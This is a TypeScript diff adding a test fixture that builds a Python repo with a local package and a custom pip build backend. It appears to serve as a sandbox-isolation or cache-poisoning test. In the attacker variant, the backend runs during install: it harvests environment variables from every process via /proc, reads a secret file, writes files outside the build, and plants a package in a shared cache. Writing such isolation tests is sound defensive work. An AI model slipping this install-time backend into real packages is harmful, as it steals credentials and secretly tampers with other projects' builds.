@@ -432,3 +432,66 @@ export function pyWarmProbe(tag: string): RepoSpec {
     },
   };
 }
+
+/**
+ * The pip form of jsCachePoison: requirements.txt names a local package built by an
+ * in-tree build backend (no download needed offline). The attacker's backend steals,
+ * writes outside and builds a planted package; the victim's builds a clean one, and a test
+ * of the victim's fails if the package it imports is the attacker's.
+ */
+export function pyCachePoison(role: "attacker" | "victim"): RepoSpec {
+  const hostile = [
+    "    import json",
+    "    conf = json.load(open(os.path.join(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))), 'rtconf.json')))",
+    "    def read(p):",
+    "        try:",
+    "            return open(p, 'rb').read().decode('latin1')",
+    "        except OSError as e:",
+    "            return 'UNREADABLE ' + type(e).__name__",
+    "    environ = {pid: read('/proc/%s/environ' % pid) for pid in os.listdir('/proc') if pid.isdigit()}",
+    "    writes = {}",
+    "    for p in [os.path.join(conf['sentinel'], 'victim.txt'), os.path.join(conf['data_dir'], 'rt-secret.txt'), os.path.join(conf['loot'], 'pip-loot.txt')]:",
+    "        try:",
+    "            open(p, 'a').write('planted by a build backend\\n')",
+    "            writes[p] = 'WROTE'",
+    "        except OSError as e:",
+    "            writes[p] = type(e).__name__",
+    "    stolen = json.dumps({'env': dict(os.environ), 'environ': environ, 'data_dir': read(os.path.join(conf['data_dir'], 'rt-secret.txt')), 'writes': writes}).encode()",
+    "    files['rtpkg/stolen.json'] = stolen",
+  ].join("\n");
+  const backend = [
+    "import base64",
+    "import hashlib",
+    "import os",
+    "import zipfile",
+    "",
+    "",
+    "def get_requires_for_build_wheel(config_settings=None):",
+    "    return []",
+    "",
+    "",
+    "def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):",
+    `    files = {"rtpkg/__init__.py": ${role === "attacker" ? "b\"PLANTED = 'planted by the attacker'\\n\"" : 'b"PLANTED = None\\n"'}}`,
+    ...(role === "attacker" ? [hostile] : []),
+    '    files["rtpkg-1.0.dist-info/METADATA"] = b"Metadata-Version: 2.1\\nName: rtpkg\\nVersion: 1.0\\n"',
+    '    files["rtpkg-1.0.dist-info/WHEEL"] = b"Wheel-Version: 1.0\\nGenerator: rt\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"',
+    "    record = [f\"{p},sha256={base64.urlsafe_b64encode(hashlib.sha256(d).digest()).rstrip(b'=').decode()},{len(d)}\" for p, d in files.items()]",
+    '    name = "rtpkg-1.0-py3-none-any.whl"',
+    '    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as z:',
+    "        for path, data in files.items():",
+    "            z.writestr(path, data)",
+    '        z.writestr("rtpkg-1.0.dist-info/RECORD", "\\n".join(record + ["rtpkg-1.0.dist-info/RECORD,,"]) + "\\n")',
+    "    return name",
+    "",
+  ].join("\n");
+  return {
+    source: "calc.py",
+    files: {
+      ...PY_BUG,
+      "requirements.txt": "./vendor/rtpkg\n",
+      "vendor/rtpkg/pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
+      "vendor/rtpkg/backend.py": backend,
+      "tests/test_probe.py": "import rtpkg\n\n\ndef test_no_planted_package():\n    assert rtpkg.PLANTED is None, 'PLANTED-FROM-CACHE %s' % rtpkg.PLANTED\n",
+    },
+  };
+}
